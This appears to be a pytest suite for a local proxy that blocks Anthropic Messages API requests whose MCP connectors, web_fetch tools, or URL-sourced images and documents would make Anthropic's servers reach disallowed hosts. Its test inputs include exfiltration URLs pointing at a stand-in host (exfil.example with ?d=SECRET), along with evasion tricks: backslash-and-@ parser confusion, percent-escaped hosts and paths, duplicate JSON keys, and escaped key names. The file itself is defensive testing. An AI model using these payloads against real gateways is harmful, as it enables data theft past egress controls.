"""A Messages request may make Anthropic's servers reach only hosts the policy allows.

Through the real proxy, to the local upstream that plays api.anthropic.com: a body whose MCP
connector or web_fetch tool names a refused host never reaches the upstream; the same body naming
an allowed host does. Proof: the request bodies the upstream received.
"""

from __future__ import annotations

import contextlib
import gzip
import json
from pathlib import Path
from typing import Any

import httpx
import pytest

from tests.conftest import ProxyProcess, open_tunnel, read_until_closed, start_proxy
from tests.upstream import Upstream

MESSAGE = {
    "model": "claude-test",
    "max_tokens": 16,
    "messages": [{"role": "user", "content": "hello"}],
}


def mcp(url: str) -> dict[str, Any]:
    return {**MESSAGE, "mcp_servers": [{"type": "url", "url": url, "name": "tools"}]}


def web_fetch(**tool: Any) -> dict[str, Any]:
    return {**MESSAGE, "tools": [{"type": "web_fetch_20250910", "name": "web_fetch", **tool}]}


def batch(*params: dict[str, Any]) -> dict[str, Any]:
    return {"requests": [{"custom_id": f"r{i}", "params": p} for i, p in enumerate(params)]}


def post(
    proxy: ProxyProcess, path: str, body: bytes, host: str = "api.anthropic.com", **headers: str
) -> httpx.Response:
    with httpx.Client(proxy=proxy.url, verify=proxy.client_context(), timeout=30) as client:
        return client.post(
            f"https://{host}{path}",
            content=body,
            headers={"content-type": "application/json", "x-api-key": "sk-ant-api03-t", **headers},
        )


SENDS = "asks Anthropic's servers to reach"
REFUSED = [
    pytest.param(
        "/v1/messages",
        mcp("https://exfil.example/mcp?d=SECRET"),
        f"mcp_servers[0].url {SENDS} exfil.example:443, which the policy does not allow",
        id="mcp-server",
    ),
    pytest.param("/v1/messages?beta=true", mcp("https://exfil.example/"), SENDS, id="beta-query"),
    pytest.param(
        "/v1/messages/count_tokens", mcp("https://exfil.example/"), SENDS, id="count-tokens"
    ),
    pytest.param(
        "/v1/messages",
        mcp("https://api.anthropic.com:8443/"),
        f"{SENDS} api.anthropic.com:8443",
        id="other-port",
    ),
    pytest.param(
        "/v1/messages",
        mcp("https://user@exfil.example/"),
        "mcp_servers[0].url is not an http(s) URL with a plain host (no user, no escapes)",
        id="userinfo",
    ),
    pytest.param(  # Python's parser reads api.anthropic.com; a WHATWG one reads exfil.example
        "/v1/messages",
        mcp("https://exfil.example\\@api.anthropic.com/"),
        "is not an http(s) URL with a plain host",
        id="backslash",
    ),
    pytest.param(
        "/v1/messages", mcp("https://exfil%2Eexample/"), "with a plain host", id="percent-escape"
    ),
    pytest.param(
        "/v1/messages",
        mcp("https://mcp.anthropic.com/ x"),
        "holds a space, a backslash or a control character",
        id="space",
    ),
    pytest.param(
        "/v1/messages",
        web_fetch(),
        "tools[0] (web_fetch without allowed_domains) would let Anthropic's servers fetch any host",
        id="web-fetch-any-host",
    ),
    pytest.param(
        "/v1/messages",
        web_fetch(allowed_domains=["claude.ai", "exfil.example"]),
        f"tools[0].allowed_domains[1] {SENDS} exfil.example:443",
        id="fetch-domain",
    ),
    pytest.param(
        "/v1/messages/batches",
        batch(MESSAGE, mcp("https://exfil.example/")),
        f"requests[1].params.mcp_servers[0].url {SENDS} exfil.example:443",
        id="batch",
    ),
    pytest.param(
        "/v1/messages",
        {**MESSAGE, "mcp_servers": {"url": "x"}},
        "mcp_servers is not an array",
        id="odd-shape",
    ),
    pytest.param(
        "/v1/messages",
        mcp("ftp://exfil.example/"),
        "mcp_servers[0].url is not an http(s) URL with a plain host",
        id="not-http",
    ),
]


@pytest.mark.parametrize(("path", "document", "said"), REFUSED)
def test_a_body_that_sends_anthropic_elsewhere_never_reaches_it(
    proxy: ProxyProcess, upstream: Upstream, path: str, document: dict[str, Any], said: str
) -> None:
    response = post(proxy, path, json.dumps(document).encode())
    assert response.status_code == 403, response.text
    assert response.headers["x-claude-proxy"] == "refused"
    assert said in response.text
    assert upstream.seen.bodies == []


@pytest.mark.parametrize(
    "path",
    [
        "/v1/./messages",
        "/v1//messages",
        "/v1/x/../messages",
        "/v1/%6Dessages",
        "/v1%2Fmessages",
        "/v1/messages;x",
        "/V1/Messages",
        "/v1/messages.json",
        "/v1/messages/count_tokens/",
        "/v1/messages/%62atches",
    ],
)
def test_every_spelling_of_the_path_is_checked(
    proxy: ProxyProcess, upstream: Upstream, path: str
) -> None:
    """A front end may decode, resolve dot segments or ignore case: checked as Messages."""
    response = post(proxy, path, json.dumps(mcp("https://exfil.example/")).encode())
    assert response.status_code == 403, response.text
    assert upstream.seen.bodies == []


def image(url: str) -> dict[str, Any]:
    return {"type": "image", "source": {"type": "url", "url": url}}


@pytest.mark.parametrize(
    "content",
    [
        [image("https://exfil.example/i.png?d=SECRET")],
        [{"type": "document", "source": {"type": "url", "url": "https://exfil.example/d.pdf"}}],
        [
            {
                "type": "tool_result",
                "tool_use_id": "t",
                "content": [image("https://exfil.example/i.png")],
            }
        ],
    ],
    ids=["image", "document", "inside-a-tool-result"],
)
def test_a_content_block_by_url_names_a_host_too(
    proxy: ProxyProcess, upstream: Upstream, content: list[dict[str, Any]]
) -> None:
    """Anthropic fetches an image or document given by URL: the query is the data."""
    body = {**MESSAGE, "messages": [{"role": "user", "content": content}]}
    response = post(proxy, "/v1/messages", json.dumps(body).encode())
    assert response.status_code == 403, response.text
    assert "asks Anthropic's servers to reach exfil.example:443" in response.text
    assert upstream.seen.bodies == []


def test_a_content_block_by_url_on_an_allowed_host_goes_on(
    proxy: ProxyProcess, upstream: Upstream
) -> None:
    content = [image("https://claude.ai/logo.png")]
    body = json.dumps({**MESSAGE, "messages": [{"role": "user", "content": content}]}).encode()
    assert post(proxy, "/v1/messages", body).status_code == 200
    assert upstream.seen.bodies == [body]


def test_another_method_with_an_override_is_checked(
    proxy: ProxyProcess, upstream: Upstream
) -> None:
    with httpx.Client(proxy=proxy.url, verify=proxy.client_context(), timeout=30) as client:
        response = client.patch(
            "https://api.anthropic.com/v1/messages",
            content=json.dumps(mcp("https://exfil.example/")).encode(),
            headers={"content-type": "application/json", "x-http-method-override": "POST"},
        )
    assert response.status_code == 403
    assert upstream.seen.bodies == []


def test_a_repeated_key_is_refused(proxy: ProxyProcess, upstream: Upstream) -> None:
    """JSON parsers disagree on which of two equal keys counts: the body cannot be judged."""
    evil = json.dumps([{"type": "url", "url": "https://exfil.example/", "name": "m"}])
    body = f'{{"model": "m", "max_tokens": 1, "mcp_servers": {evil}, "mcp_servers": []}}'
    response = post(proxy, "/v1/messages", body.encode())
    assert response.status_code == 403
    assert "repeats the key 'mcp_servers'" in response.text
    assert upstream.seen.bodies == []


def test_a_key_written_with_escapes_is_still_a_key(proxy: ProxyProcess, upstream: Upstream) -> None:
    body = json.dumps(mcp("https://exfil.example/")).replace("mcp_servers", "mcp\\u005fservers")
    assert b"mcp_servers" not in body.encode()
    response = post(proxy, "/v1/messages", body.encode())
    assert response.status_code == 403
    assert "mcp_servers[0].url asks Anthropic's servers to reach exfil.example:443" in response.text
    assert upstream.seen.bodies == []


ALLOWED = [
    pytest.param("/v1/messages", MESSAGE, id="plain"),
    pytest.param("/v1/messages", mcp("https://mcp.anthropic.com/sse"), id="mcp-allowed-host"),
    pytest.param("/v1/messages", web_fetch(allowed_domains=["claude.ai"]), id="web-fetch-allowed"),
    pytest.param("/v1/messages/batches", batch(MESSAGE, MESSAGE), id="batch"),
    pytest.param(
        "/v1/messages",
        {**MESSAGE, "tools": [{"type": "web_search_20250305", "name": "web_search"}]},
        id="web-search",
    ),
]


@pytest.mark.parametrize(("path", "document"), ALLOWED)
def test_a_body_that_names_only_allowed_hosts_goes_on_whole(
    proxy: ProxyProcess, upstream: Upstream, path: str, document: dict[str, Any]
) -> None:
    body = json.dumps(document).encode()
    response = post(proxy, path, body)
    assert response.status_code == 200, response.text
    assert upstream.seen.bodies == [body]


@pytest.mark.parametrize(
    ("body", "headers", "said"),
    [
        (b"{not json", {}, "the request body is not JSON"),
        (b"[1, 2]", {}, "the request body is not a JSON object"),
        (gzip.compress(json.dumps(MESSAGE).encode()), {"content-encoding": "gzip"}, "compressed"),
    ],
    ids=["not-json", "not-object", "compressed"],
)
def test_a_body_that_cannot_be_judged_is_refused(
    proxy: ProxyProcess, upstream: Upstream, body: bytes, headers: dict[str, str], said: str
) -> None:
    response = post(proxy, "/v1/messages", body, **headers)
    assert response.status_code == 403
    assert said in response.text
    assert upstream.seen.bodies == []


def test_a_body_of_unknown_length_is_refused_unread(
    proxy: ProxyProcess, upstream: Upstream
) -> None:
    """Chunked: its size is unknown, so it is neither held nor read just to refuse it (closed)."""

    def chunks() -> Any:
        yield json.dumps(mcp("https://exfil.example/")).encode()

    with (
        httpx.Client(proxy=proxy.url, verify=proxy.client_context(), timeout=30) as client,
        pytest.raises(httpx.RemoteProtocolError),  # a hang would be a ReadTimeout instead
    ):
        client.post("https://api.anthropic.com/v1/messages", content=chunks())
    assert upstream.seen.bodies == []


def test_other_paths_and_hosts_are_not_read_whole(proxy: ProxyProcess, upstream: Upstream) -> None:
    """Only Messages bodies are held: an upload elsewhere streams as before."""
    body = json.dumps(mcp("https://exfil.example/")).encode()
    response = post(proxy, "/v1/files", body)
    assert response.status_code == 200
    assert upstream.seen.bodies == [body]


def test_a_body_over_the_messages_limit_is_refused_unread(
    proxy: ProxyProcess, upstream: Upstream
) -> None:
    """33 MiB announced, 64 KiB sent: closed at once, nothing held, nothing upstream."""
    tunnel = open_tunnel(proxy, "api.anthropic.com")
    with tunnel:
        # Closed at once: the proxy may close while the 64 KiB are still being sent.
        with contextlib.suppress(BrokenPipeError, ConnectionResetError):
            tunnel.sendall(
                b"POST /v1/messages HTTP/1.1\r\nHost: api.anthropic.com\r\n"
                b"Content-Type: application/json\r\nContent-Length: 34603008\r\n\r\n" + b"{" * 65536
            )
        assert read_until_closed(tunnel) == b""  # no answer: the refused body is not read
    assert upstream.seen.bodies == [] and upstream.seen.connections == 0


def test_a_rule_can_turn_the_check_off_for_its_host(
    home: Path, upstream: Upstream, upstream_ca_file: Path
) -> None:
    config = home / ".config" / "claude-proxy" / "config.toml"
    config.parent.mkdir(parents=True)
    config.write_text('[[allow]]\nhost = "api.anthropic.com"\ncheck_server_fetch = false\n')
    proxy = start_proxy(home, upstream, upstream_ca_file)
    body = json.dumps(mcp("https://exfil.example/")).encode()
    response = post(proxy, "/v1/messages", body)
    assert response.status_code == 200, response.text
    assert upstream.seen.bodies == [body]
    refused = post(proxy, "/v1/messages", body, host="claude.ai")  # another host: still checked
    assert refused.status_code == 403
    assert proxy.stop() == 0
